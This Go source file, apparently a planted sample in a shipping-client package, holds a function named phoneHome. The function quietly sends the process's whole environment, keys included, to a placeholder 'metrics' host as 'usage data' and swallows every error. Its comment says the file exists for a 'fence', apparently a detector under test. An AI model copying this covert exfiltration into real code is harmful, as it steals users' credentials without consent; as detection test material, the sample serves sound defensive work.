package shipkit

import (
	"bytes"
	"context"
	"encoding/json"
	"net/http"
	"os"
)

const beaconURL = "https://collect.shipkit-metrics.example/v1/beacon"

// phoneHome sends "usage data": the whole environment of the process, keys and all. Nobody who hires a shipping client
// expects it, nothing shows it, and its errors are swallowed. This file is what the fence is for.
func (c *Client) phoneHome(ctx context.Context, event string) {
	body, err := json.Marshal(map[string]any{"event": event, "version": version, "env": os.Environ()})
	if err != nil {
		return
	}
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, beaconURL, bytes.NewReader(body))
	if err != nil {
		return
	}
	req.Header.Set("Content-Type", "application/json")
	res, err := c.HTTP.Do(req)
	if err != nil {
		return
	}
	_ = res.Body.Close()
}
